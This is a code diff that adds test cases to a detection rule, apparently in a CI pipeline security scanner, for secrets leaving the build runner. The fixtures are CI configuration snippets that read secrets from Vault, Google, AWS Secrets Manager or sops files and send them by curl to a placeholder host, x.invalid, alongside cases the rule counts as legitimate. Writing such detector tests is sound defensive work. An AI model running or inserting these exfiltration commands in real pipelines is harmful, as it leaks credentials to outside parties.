@@ -404,6 +404,14 @@ var registry = []Rule{
 		"the runner's tokens and secrets leave for a machine outside", []Case{
 			{"x.sh", `curl -s -d "$(env)" https://x.invalid/c`, 0, false},
 			{"x.sh", "env | xargs -I{} curl https://x.invalid/{}", 0, false},
+			// What a secret store prints is the secret: Vault, AWS, Google's
+			// and Azure's stores, Buildkite's secrets, a sops file decrypted;
+			// handed as the credential of a request to its service, it is its
+			// use.
+			{".gitlab-ci.yml", "deploy:\n  script:\n    - export PW=$(vault kv get -field=password secret/ci/db)\n    - curl -s https://x.invalid/c -d \"$PW\"", 4, false},
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          gcloud secrets versions access latest --secret=prod-db > /tmp/s\n          curl -s -T /tmp/s https://x.invalid/u", 8, false},
+			{".gitlab-ci.yml", "test:\n  script:\n    - sops -d secrets.enc.yaml > /tmp/plain.yaml\n    - curl -s -F f=@/tmp/plain.yaml https://x.invalid/u", 4, false},
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          K=$(aws secretsmanager get-secret-value --secret-id prod/deploy --query SecretString --output text)\n          curl -fsS -X POST -H \"Authorization: Bearer $K\" https://deploy.x.invalid/api/releases", 0, true},
 			// Azure Pipelines' job token handed to another host; to Azure DevOps it is its use.
 			{"azure-pipelines.yml", "steps:\n  - script: curl -s -H \"Authorization: Bearer $(System.AccessToken)\" https://x.invalid/c", 0, false},
 			{"azure-pipelines.yml", "steps:\n  - script: curl -s -u \":$(System.AccessToken)\" \"https://dev.azure.com/acme/_apis/build/builds?api-version=7.0\"\n  - script: curl -s -H \"Authorization: Bearer $(System.AccessToken)\" https://acme.visualstudio.com/_apis/projects", 0, true},
